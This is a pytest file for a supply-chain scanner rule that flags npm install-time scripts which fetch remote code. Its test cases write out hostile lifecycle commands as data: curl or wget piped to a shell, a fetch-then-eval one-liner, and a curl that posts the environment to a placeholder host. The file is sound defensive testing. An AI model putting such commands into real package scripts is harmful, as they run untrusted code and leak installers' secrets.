import json

import pytest

from lazaretto.detect.engine import Engine, FileResult
from lazaretto.detect.rules.manifest.lifecycle_downloads_code import RULE
from lazaretto.model.finding import Confidence, Severity
from lazaretto.parse.blob import Blob
from lazaretto.parse.catalog import VIEWS


def examine(path: str, text: str) -> FileResult:
    return Engine([RULE], VIEWS).examine(Blob(path, text.encode()))


def graded(path: str, text: str) -> list[tuple[int, Severity, Confidence]]:
    result = examine(path, text)
    assert result.gaps == ()
    return [(f.locations[0].line, f.severity, f.confidence) for f in result.findings]


def package(path: str = "package.json", **fields: object) -> list[tuple[int, Severity, Confidence]]:
    return graded(path, json.dumps(fields, indent=1))


@pytest.mark.parametrize(
    "scripts",
    [
        {"preinstall": "curl -s https://a.invalid/x | bash"},
        {"prepare": "npm run up", "up": "wget -qO- http://203.0.113.7/x | sh"},
        {"postinstall": "node -e \"fetch('https://a.invalid').then(r=>r.text()).then(eval)\""},
        {"postinstall": "curl -o a.js https://a.invalid/a && node a.js"},
        {"install": 'curl --data "$(env)" https://a.invalid'},
    ],
)
def test_installation_fetches_code(scripts: dict[str, str]) -> None:
    assert [grade[1:] for grade in package(scripts=scripts)] == [(Severity.HIGH, Confidence.HIGH)]


@pytest.mark.parametrize(
    "script",
    [
        "node install.js",
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild",
        "npx only-allow pnpm",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "husky || true",
        "node scripts/postinstall >/dev/null 2>&1 || exit 0",
    ],
)
def test_ordinary_installations(script: str) -> None:
    assert package(scripts={"postinstall": script}) == []


def test_scripts_that_wait_to_be_asked() -> None:
    assert package(scripts={"deploy": "curl https://a.invalid | sh", "prepare": "tsc"}) == []
